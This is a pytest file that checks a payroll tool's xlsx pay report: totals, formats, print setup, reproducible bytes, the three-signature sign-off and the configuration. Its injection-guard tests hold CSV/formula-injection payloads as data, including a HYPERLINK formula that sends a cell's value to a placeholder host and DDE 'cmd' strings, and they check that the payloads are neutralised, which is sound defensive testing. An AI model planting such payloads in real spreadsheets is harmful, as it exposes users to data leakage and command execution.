"""pay_report.xlsx (issue 8): opened with openpyxl on the sample month 2024-03.

Checks: the sheets and their order; every person once with every component, each equal to pay_lines.csv;
station and project subtotals and the grand total equal to the sum of their rows; ¥ number formats; print
setup (A4 landscape, repeated and frozen header row); the injection guard; byte-reproducibility (fixed core
properties and zip dates); the sign-off sheet empty with DRAFT marks in a draft and filled in, without any
DRAFT mark, after the third signature; grade changes, flags, employer costs, inputs and the rule set.
"""

from __future__ import annotations

import collections
import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.styles import Alignment, Border, Font, PatternFill
from openpyxl.worksheet.worksheet import Worksheet
from typer.testing import CliRunner

from cmsettle import DEFAULT_RULES_DIR, PROJECT_ROOT
from cmsettle.cli import app
from cmsettle.compute.lines import COMPONENTS, PayLine
from cmsettle.months import Month
from cmsettle.outputs.report import (
    HEADER_ROW, ID_COLUMNS, REPORT_FILE, ROLES, SHEETS, ReportConfig, SignOff, close_report, load_config,
    neutralise, parse_config, pay_report,
)
from cmsettle.pipeline import RunOutcome, Settings, settle_month

SAMPLE = PROJECT_ROOT / "sample_data"
CFG = load_config()
FIRST = len(ID_COLUMNS) + 1  # the first amount column


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> RunOutcome:
    tmp = tmp_path_factory.mktemp("report")
    settings = Settings(data_dir=SAMPLE, out_dir=tmp / "out", rules_dir=DEFAULT_RULES_DIR,
                        db_url=f"sqlite:///{tmp / 'ledger.db'}")
    return settle_month(Month.parse("2024-03"), settings)


@pytest.fixture(scope="module")
def wb(run: RunOutcome):  # noqa: ANN201
    assert run.out_dir is not None
    return load_workbook(run.out_dir / REPORT_FILE)


def sheet(wb, key: str) -> Worksheet:  # noqa: ANN001
    return wb[CFG.label("sheets", key)]


def render(run: RunOutcome, **kw) -> bytes:  # noqa: ANN003
    args = dict(run_id=run.run_id, revision=run.revision, status="draft", pay_day=run.pay_day)
    args.update(kw)
    return pay_report(run.result, run.rule_set, run.files, **args)


def pay_lines(run: RunOutcome) -> dict[tuple[str, str], Decimal]:
    assert run.out_dir is not None
    with (run.out_dir / "pay_lines.csv").open(encoding="utf-8") as fh:
        return {(r["manager_id"], r["component"]): Decimal(r["amount"]) for r in csv.DictReader(fh)}


def body(ws: Worksheet) -> list[tuple]:
    """The pay sheet's rows below the header, as values."""
    return [row for row in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]


def all_text(wb) -> list[str]:  # noqa: ANN001
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows(values_only=True):
            texts.extend(v for v in row if isinstance(v, str))
        texts.extend(str(part.text or "") for hf in (ws.oddHeader, ws.oddFooter)
                     for part in (hf.left, hf.center, hf.right))
    return texts


# ---- sheets and the pay table --------------------------------------------------------------------------

def test_sheets_in_order(wb) -> None:  # noqa: ANN001
    assert wb.sheetnames == [CFG.label("sheets", k) for k in SHEETS]
    assert CFG.language == "both" and wb.sheetnames[0] == "薪酬月报表 Pay report"


def test_one_row_per_person_with_every_component_equal_to_pay_lines(run: RunOutcome, wb) -> None:  # noqa: ANN001
    ws = sheet(wb, "report")
    header = [c.value for c in ws[HEADER_ROW]]
    assert header[:len(ID_COLUMNS)] == [CFG.label("columns", c, "\n") for c in ID_COLUMNS]
    assert header[len(ID_COLUMNS):] == [CFG.label("components", c, "\n") for c in COMPONENTS]
    assert header[FIRST - 1] == "固定薪酬\nFixed pay" and header[-1] == "实发合计\nNet pay"
    people = [row for row in body(ws) if row[0]]
    ids = [row[0] for row in people]
    assert sorted(ids) == sorted(m.manager_id for m in run.result.managers)  # everyone, once
    lines = pay_lines(run)
    for row in people:
        for i, component in enumerate(COMPONENTS):
            assert Decimal(str(row[FIRST - 1 + i])) == lines.get((row[0], component), Decimal(0)), (row[0], component)


def test_totals_equal_the_sum_of_rows_and_pay_lines(run: RunOutcome, wb) -> None:  # noqa: ANN001
    ws = sheet(wb, "report")
    rows = body(ws)
    people = [r for r in rows if r[0]]
    total = rows[-1]
    assert total[1].startswith(CFG.text("grand_total")) and f"({len(people)} " in total[1]
    lines = pay_lines(run)
    for i, component in enumerate(COMPONENTS):
        col = FIRST - 1 + i
        by_rows = sum((Decimal(str(r[col])) for r in people), Decimal(0))
        assert Decimal(str(total[col])) == by_rows == sum(
            (a for (_, c), a in lines.items() if c == component), Decimal(0)), component
    assert Decimal(str(total[FIRST - 1 + COMPONENTS.index("net_pay")])) > 0


def test_subtotals_by_station_and_project(run: RunOutcome, wb) -> None:  # noqa: ANN001
    rows = body(sheet(wb, "report"))
    station_label, project_label = CFG.text("station_subtotal"), CFG.text("project_subtotal")
    group: list[tuple] = []
    project: list[tuple] = []
    stations_seen, projects_seen = 0, 0
    net = FIRST - 1 + COMPONENTS.index("net_pay")
    gross = FIRST - 1 + COMPONENTS.index("gross_pay")
    for r in rows[:-1]:
        if r[0]:
            group.append(r)
            continue
        label = r[1]
        members = group if label.startswith(station_label) else project
        for col in (gross, net):
            assert Decimal(str(r[col])) == sum((Decimal(str(x[col])) for x in members), Decimal(0)), label
        assert f"({len(members)} " in label
        if label.startswith(station_label):
            assert members and label == f"{station_label} {members[0][3]} ({len(members)} {CFG.text('people')})"
            assert {x[3] for x in members} == {members[0][3]}  # one station
            project.extend(group)
            group = []
            stations_seen += 1
        else:
            assert label.startswith(project_label) and {x[2] for x in members} == {members[0][2]}
            project = []
            projects_seen += 1
    stations = {(m.project, m.station) for m in run.result.managers}
    assert stations_seen == len(stations) and projects_seen == len({p for p, _ in stations})


def test_number_formats_and_print_setup(wb) -> None:  # noqa: ANN001
    ws = sheet(wb, "report")
    money = CFG.workbook["money_format"]
    assert "¥" in money
    row = HEADER_ROW + 1
    assert all(ws.cell(row=row, column=c).number_format == money for c in range(FIRST, FIRST + len(COMPONENTS)))
    assert ws.cell(row=ws.max_row, column=FIRST).number_format == money  # the totals row too
    assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToHeight) == 0
    assert ws.print_title_rows.replace("$", "") == f"{HEADER_ROW}:{HEADER_ROW}"  # header row on every page
    assert ws.print_title_cols.replace("$", "") == "A:B"
    assert ws.freeze_panes == f"C{HEADER_ROW + 1}"  # header row and id/name frozen on screen
    for s in wb.worksheets:
        assert s.page_setup.paperSize is not None and s.freeze_panes == f"{'C' if s is ws else 'A'}{HEADER_ROW + 1}"


# ---- the injection guard --------------------------------------------------------------------------------

def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+86 123") == "'+86 123"
    assert neutralise("-2+3") == "'-2+3"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=cmd") == "'\t=cmd"
    assert neutralise("王=1") == "王=1" and neutralise("") == ""


def test_no_text_cell_is_a_formula(run: RunOutcome) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    res = run.result
    first = res.managers[0]
    managers = (replace(first, name=evil, station="+cmd|' /C calc'!A0", grade_reason="@SUM(1+1)*cmd|' /C calc'!A0",
                        flags=("termination_right",)), *res.managers[1:])
    lines = tuple(replace(ln, detail="-2+3+cmd|' /C calc'!A0") if ln.manager_id == first.manager_id else ln
                  for ln in res.lines)
    bad = replace(run, result=replace(res, managers=managers, lines=lines, warnings=("=1+2",)))
    wb = load_workbook(io.BytesIO(render(bad)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    assert "'" + evil in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts and "'=1+2" in texts
    with zipfile.ZipFile(io.BytesIO(render(bad))) as z:  # no <f> element anywhere in the package
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))


# ---- reproducible bytes -----------------------------------------------------------------------------------

def test_byte_reproducible_with_fixed_properties_and_zip_dates(run: RunOutcome) -> None:
    assert run.out_dir is not None
    a, b = render(run), render(run)
    assert a == b == (run.out_dir / REPORT_FILE).read_bytes()
    assert run.outputs[REPORT_FILE] == json.loads((run.out_dir / "manifest.json").read_bytes())["outputs"][REPORT_FILE]
    with zipfile.ZipFile(io.BytesIO(a)) as z:
        assert {i.date_time for i in z.infolist()} == {(2024, 3, 31, 0, 0, 0)}
        assert z.namelist()[0] == "[Content_Types].xml"
    props = load_workbook(io.BytesIO(a)).properties
    assert props.created == props.modified == datetime(2024, 3, 31)
    assert props.creator.startswith("cmsettle") and run.run_id in props.keywords


# ---- sign-off ---------------------------------------------------------------------------------------------

def test_draft_sign_off_sheet_is_empty_and_marked(wb) -> None:  # noqa: ANN001
    ws = sheet(wb, "signoff")
    rows = list(ws.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + len(ROLES), values_only=True))
    assert [r[1] for r in rows] == [CFG.label("roles", r) for r in ROLES]
    assert [r[1] for r in rows] == ["主办会计 Chief accountant", "副经理/经理助理 Deputy manager", "经理 Branch manager"]
    assert all(r[2] in (None, "") and r[3] in (None, "") and r[4] in (None, "") for r in rows)
    draft = CFG.label("status", "draft")
    assert draft == "草稿 DRAFT"
    texts = [v for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert draft in texts  # the watermark line
    for s in wb.worksheets:  # every sheet: red title and the page header say DRAFT
        assert draft in s["A1"].value and s["A1"].font.color.rgb.endswith("C00000")
        assert s.oddHeader.center.text == draft


def test_closed_report_shows_the_signers_and_no_draft_mark(run: RunOutcome) -> None:
    assert run.out_dir is not None
    draft = (run.out_dir / REPORT_FILE).read_bytes()
    manifest = json.loads((run.out_dir / "manifest.json").read_bytes())
    when = datetime(2024, 4, 3, 9, 30, 5, tzinfo=timezone.utc)
    sigs = [SignOff(role, f"signer{i}", when.replace(minute=i), f"{i:x}" * 64) for i, role in enumerate(ROLES, 1)]
    closed = close_report(draft, manifest, sigs, when, "ab" * 32)
    assert closed == close_report(draft, manifest, sigs, when, "ab" * 32)  # deterministic
    wb = load_workbook(io.BytesIO(closed))
    assert wb.sheetnames == [CFG.label("sheets", k) for k in SHEETS]
    ws = sheet(wb, "signoff")
    rows = list(ws.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + len(ROLES), values_only=True))
    assert [(r[2], r[3], r[4]) for r in rows] == [
        (f"signer{i}", f"2024-04-03 09:{i:02d}:05 UTC", f"SHA256:{f'{i:x}' * 64}") for i in range(1, 4)]
    texts = all_text(wb)
    assert not [t for t in texts if "DRAFT" in t or "草稿" in t]
    assert any("ab" * 32 in t for t in texts)  # the manifest hash the signatures cover
    assert sheet(wb, "report")["A1"].value.startswith("薪酬月报表 Pay report 2024-03  【已结账 Closed 2024-04-03")
    assert wb.properties.modified == datetime(2024, 4, 3, 9, 30, 5) and wb.properties.created == datetime(2024, 3, 31)
    # the pay table is untouched by closing
    assert body(sheet(wb, "report")) == body(sheet(load_workbook(io.BytesIO(draft)), "report"))


def test_simulated_month_is_marked_simulated(run: RunOutcome) -> None:
    wb = load_workbook(io.BytesIO(render(run, status="closed")))
    assert all(CFG.label("status", "simulated") in s["A1"].value and "DRAFT" not in s["A1"].value
               for s in wb.worksheets)


def test_the_third_signature_rewrites_the_report(tmp_path: Path) -> None:
    runner = CliRunner()
    env = {"CMSETTLE_DATA": str(SAMPLE), "CMSETTLE_OUT": str(tmp_path / "out"),
           "CMSETTLE_DB": f"sqlite:///{tmp_path / 'l.db'}", "CMSETTLE_KEYS": str(tmp_path / "keys")}

    def ok(*args: str) -> str:
        r = runner.invoke(app, list(args), env=env, catch_exceptions=False)
        assert r.exit_code == 0, r.output
        return r.output

    ok("month", "2024-03", "--quiet")
    folder = tmp_path / "out" / "2024-03"
    draft = (folder / REPORT_FILE).read_bytes()
    people = [("chief_accountant", "wang"), ("deputy_manager", "li"), ("branch_manager", "zhang")]
    for role, name in people:
        ok("keys", "create", name)
    for role, name in people[:2]:
        ok("sign", "2024-03", "--role", role, "--signer", name)
        assert (folder / REPORT_FILE).read_bytes() == draft  # signatures 1 and 2 leave the draft
    ok("sign", "2024-03", "--role", "branch_manager", "--signer", "zhang")
    final = (folder / REPORT_FILE).read_bytes()
    closing = json.loads((folder / "closing.json").read_bytes())
    from cmsettle.outputs.tables import sha256

    assert closing["outputs"][REPORT_FILE] == sha256(final) and closing["draft_outputs"][REPORT_FILE] == sha256(draft)
    assert json.loads((folder / "manifest.json").read_bytes())["outputs"][REPORT_FILE] == sha256(draft)
    ws = sheet(load_workbook(io.BytesIO(final)), "signoff")
    signers = [r[2] for r in ws.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + 3, values_only=True)]
    assert signers == ["wang", "li", "zhang"]
    fps = {s["signer"]: s["fingerprint"] for s in closing["signatures"]}
    assert [r[4] for r in ws.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + 3, values_only=True)] == [
        f"SHA256:{fps[n]}" for _, n in people]


# ---- the other sheets -------------------------------------------------------------------------------------

def test_grade_changes_with_reasons(run: RunOutcome, wb) -> None:  # noqa: ANN001
    rows = [r for r in sheet(wb, "grades").iter_rows(min_row=HEADER_ROW + 1, values_only=True) if r[0]]
    want = {m.manager_id: m for m in run.result.managers
            if not m.refund_only and (m.grade_next != m.grade_in_effect or m.grade_rule)}
    assert want and {r[0] for r in rows} == set(want)
    for r in rows:
        m = want[r[0]]
        assert (r[3], r[4], r[5]) == (CFG.value("grades", m.grade_in_effect), CFG.value("grades", m.grade_next),
                                      m.grade_rule)
        assert r[8] == m.grade_reason and r[8]
    assert "800008" in want and want["800008"].grade_rule == "G3"  # the designed demotion (sample README)


def test_flags_to_act_on(run: RunOutcome, wb) -> None:  # noqa: ANN001
    rows = [r for r in sheet(wb, "flags").iter_rows(min_row=HEADER_ROW + 1, values_only=True) if r[2]]
    assert sorted((r[2], r[1]) for r in rows) == sorted((m.manager_id, f) for m in run.result.managers
                                                        for f in m.flags)
    kinds = [r[1] for r in rows]
    order = list(CFG.data["flags"])
    assert kinds == sorted(kinds, key=order.index)  # grouped in report.yaml's order
    assert {"termination_right", "personal_leave_over_cap", "station_manager_candidate"} <= set(kinds)
    term = next(r for r in rows if r[1] == "termination_right")
    assert term[0] == "可解除合同\nTermination right" and "G4" in term[6] and term[7] and term[8]


def test_employer_costs_total(run: RunOutcome, wb) -> None:  # noqa: ANN001
    rows = list(sheet(wb, "employer").iter_rows(min_row=HEADER_ROW + 1, values_only=True))
    people, total = [r for r in rows if r[0]], rows[-1]
    assert len(people) == sum(1 for m in run.result.managers if not m.refund_only)
    for col in (4, 5, 6):
        assert Decimal(str(total[col])) == sum((Decimal(str(r[col])) for r in people), Decimal(0))
    si = {m.manager_id: m.employer_social_insurance for m in run.result.managers}
    assert all(Decimal(str(r[4])) == si[r[0]] for r in people) and Decimal(str(total[4])) > 0


def test_inputs_with_rows_and_sha256(run: RunOutcome, wb) -> None:  # noqa: ANN001
    ws = sheet(wb, "inputs")
    rows = list(ws.iter_rows(min_row=HEADER_ROW + 1, max_row=HEADER_ROW + len(run.files), values_only=True))
    assert [(r[0], r[1], r[2], r[4]) for r in rows] == [(f.table, f.path, f.rows, f.sha256) for f in run.files]
    texts = [v for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert run.run_id in texts and run.pay_day in texts


def test_rule_set_used(run: RunOutcome, wb) -> None:  # noqa: ANN001
    texts = [v for row in sheet(wb, "rules").iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert run.rule_set.id in texts and run.rule_set.sha256 in texts and run.rule_set.path.name in texts
    params = {r[0]: r for r in sheet(wb, "rules").iter_rows(values_only=True) if r[0]}
    assert params["earnings.account_bonus"][1:3] == ("50", "P4")
    assert params["grades.senior.threshold"][1] == "6000000"


# ---- configuration ------------------------------------------------------------------------------------------

def config_with(**changes: object) -> ReportConfig:
    return parse_config({**CFG.data, **changes})


@pytest.mark.parametrize(("language", "fixed_pay", "sheet_name"), [
    ("zh", "固定薪酬", "薪酬月报表"), ("en", "Fixed pay", "Pay report"), ("both", "固定薪酬\nFixed pay", "薪酬月报表 Pay report"),
])
def test_language_from_configuration(run: RunOutcome, language: str, fixed_pay: str, sheet_name: str) -> None:
    wb = load_workbook(io.BytesIO(render(run, config=config_with(language=language))))
    assert wb.sheetnames[0] == sheet_name
    assert wb.worksheets[0].cell(row=HEADER_ROW, column=FIRST).value == fixed_pay


def test_configuration_is_checked() -> None:
    with pytest.raises(ValueError, match="language"):
        config_with(language="fr")
    components = dict(CFG.data["components"])
    del components["net_pay"]
    with pytest.raises(ValueError, match="components.net_pay"):
        config_with(components=components)


def test_every_component_has_labels_in_both_languages() -> None:
    for c in COMPONENTS:
        zh, en = CFG.pair("components", c)
        assert zh and en and zh != en
    assert PayLine("x", "net_pay", Decimal(0), "N2", "").component in CFG.data["components"]


def test_closing_keeps_the_drafts_language(run: RunOutcome) -> None:
    """report.yaml may change between draft and close: the closed report keeps the draft's sheets and language."""
    draft = render(run, config=config_with(language="zh"))
    manifest = {"month": "2024-03", "revision": 1, "run_id": run.run_id, "pay_day": run.pay_day,
                "rule_set": {"id": run.rule_set.id, "sha256": run.rule_set.sha256}}
    when = datetime(2024, 4, 3, 9, 30, tzinfo=timezone.utc)
    sigs = [SignOff(role, f"s{i}", when, "0" * 64) for i, role in enumerate(ROLES)]
    wb = load_workbook(io.BytesIO(close_report(draft, manifest, sigs, when, "ab" * 32)))
    assert wb.sheetnames == load_workbook(io.BytesIO(draft)).sheetnames == [
        CFG.pair("sheets", k)[0] for k in SHEETS]
    signoff = wb.worksheets[SHEETS.index("signoff")]
    assert signoff.cell(row=HEADER_ROW + 1, column=2).value == "主办会计"
    assert "Closed" not in signoff["A1"].value and "已结账" in signoff["A1"].value
    with pytest.raises(ValueError, match="not a cmsettle pay report"):
        from openpyxl import Workbook

        buf = io.BytesIO()
        Workbook().save(buf)
        close_report(buf.getvalue(), manifest, sigs, when, "ab" * 32)


def test_a_refund_only_leaver_is_listed_last(run: RunOutcome) -> None:
    res = run.result
    leaver = replace(res.managers[0], refund_only=True, project=None, station=None, flags=())
    wb = load_workbook(io.BytesIO(render(replace(run, result=replace(
        res, managers=(leaver, *res.managers[1:]))))))
    rows = body(wb.worksheets[0])
    people = [r for r in rows if r[0]]
    assert people[-1][0] == leaver.manager_id and people[-1][2] == CFG.text("no_project")
    assert rows[-2][1].startswith(f"{CFG.text('project_subtotal')} {CFG.text('no_project')} (1 ")


# ---- scale: work linear in the number of people ---------------------------------------------------------

def copies(result, k: int):  # noqa: ANN001, ANN201
    """The month's people ``k`` times over under new ids (same projects, stations, amounts and flags)."""
    def new_id(manager_id: str, i: int) -> str:
        return manager_id if i == 0 else f"{manager_id}-{i:02d}"

    return replace(result,
                   managers=tuple(replace(m, manager_id=new_id(m.manager_id, i)) for i in range(k)
                                  for m in result.managers),
                   lines=tuple(replace(ln, manager_id=new_id(ln.manager_id, i)) for i in range(k)
                               for ln in result.lines))


def test_the_work_per_report_does_not_grow_with_people(run: RunOutcome, monkeypatch: pytest.MonkeyPatch) -> None:
    """No whole-sheet scan per row (openpyxl's max_row and max_column look at every cell: per row, that is
    quadratic) and no style object per cell: the counts are the same for 34 people and for 340."""
    calls: collections.Counter[str] = collections.Counter()
    for name in ("max_row", "max_column", "min_row", "min_column"):
        prop = getattr(Worksheet, name)
        monkeypatch.setattr(Worksheet, name, property(
            lambda ws, _get=prop.fget, _name=name: (calls.update([_name]), _get(ws))[1]))
    dimension = Worksheet.calculate_dimension
    monkeypatch.setattr(Worksheet, "calculate_dimension",
                        lambda ws: (calls.update(["calculate_dimension"]), dimension(ws))[1])
    for cls in (Font, PatternFill, Alignment, Border):
        init = cls.__init__
        monkeypatch.setattr(cls, "__init__", lambda obj, *a, _init=init, _name=cls.__name__, **kw: (
            calls.update([_name]), _init(obj, *a, **kw))[1])

    def counted(k: int) -> tuple[collections.Counter[str], bytes]:
        calls.clear()
        data = render(replace(run, result=copies(run.result, k)))
        return collections.Counter(calls), data

    (one, small), (ten, big) = counted(1), counted(10)
    assert one == ten, (one, ten)
    assert sum(n for name, n in one.items() if name.startswith(("max", "min", "calc"))) < 20 * len(SHEETS), one
    monkeypatch.undo()
    n = len(run.result.managers)
    ws1, ws10 = (load_workbook(io.BytesIO(data)).worksheets[0] for data in (small, big))
    people1, people10 = ([r for r in body(ws) if r[0]] for ws in (ws1, ws10))
    assert len(people1) == n and len(people10) == 10 * n
    assert ws10.max_row - 10 * n == ws1.max_row - n  # the same subtotal rows
    assert body(ws10)[-1][FIRST - 1:] == tuple(  # the grand total: ten times the amounts
        float(Decimal(str(v)) * 10) if v else v for v in body(ws1)[-1][FIRST - 1:])


def test_body_rows_are_written_as_openpyxl_writes_them() -> None:
    """The rows below the header (kept outside openpyxl and written as XML) against the same cells written by
    openpyxl: the same sheet and styles XML, byte for byte, for texts to escape, blanks, zeros, -0, nan,
    heights, rows written out of order and a cell written twice."""
    from openpyxl import Workbook

    from cmsettle.outputs.report import _Sheet, workbook_bytes

    cells = [
        (4, 1, "a & b < c > d", {}), (4, 2, "  padded ", {"wrap": True}), (4, 3, "   ", {}), (4, 4, "", {}),
        (4, 5, "line\nbreak", {"bold": True, "fill": "F2F2F2"}), (4, 6, "=1+1", {}), (4, 7, "x" * 40_000, {}),
        (5, 3, Decimal("-0.00"), {"fmt": "0.00"}), (5, 1, Decimal(0), {"fmt": "0.00"}), (5, 2, 0, {}),
        (5, 4, -0.0, {}), (5, 5, 1.5, {"color": "C00000"}), (5, 6, Decimal("79260.71"), {"border": "thin"}),
        (5, 7, float("nan"), {}), (5, 8, 10**20, {}), (5, 9, None, {"fill": "D9D9D9", "border": "double_top"}),
        (7, 2, "王五", {"size": 14, "align": "center", "valign": "center"}), (7, 2, "赵六", {"size": 14}),
        (9, 1, 1, {}),
    ]
    out = []
    for body_rows in (True, False):
        wb = Workbook()
        s = _Sheet(wb.active, CFG, body=body_rows)
        s.put(1, 1, "title", bold=True)
        s.header(["a", "b", "c"])
        for row, col, value, style in cells:
            s.put(row, col, value, **style)
        s.set_row(6, 2, ["x", Decimal("1.10"), None], [s.style(), s.style(fmt="0.00"), s.style()])
        s.height(5, 30)
        s.height(8, 12)  # a row with a height and no cells
        when = datetime(2024, 3, 31)
        out.append(workbook_bytes(wb, created=when, modified=when, bodies=[s] if body_rows else []))
    assert out[0] == out[1]
    ws = load_workbook(io.BytesIO(out[0])).active
    assert ws["A4"].value == "a & b < c > d" and ws["B4"].value == "  padded " and ws["F4"].value == "'=1+1"
    assert len(ws["G4"].value) == 32_767 and ws["B7"].value == "赵六" and ws.row_dimensions[8].height == 12


def test_a_body_cell_is_checked_like_an_openpyxl_cell(run: RunOutcome) -> None:
    from openpyxl.utils.exceptions import IllegalCharacterError

    res = run.result
    bad = replace(res, managers=(replace(res.managers[0], name="bell\x07"), *res.managers[1:]))
    with pytest.raises(IllegalCharacterError):
        render(replace(run, result=bad))
    odd = replace(res, managers=(replace(res.managers[0], employer_social_insurance=True), *res.managers[1:]))
    with pytest.raises(TypeError, match="a text or a number"):
        render(replace(run, result=odd))
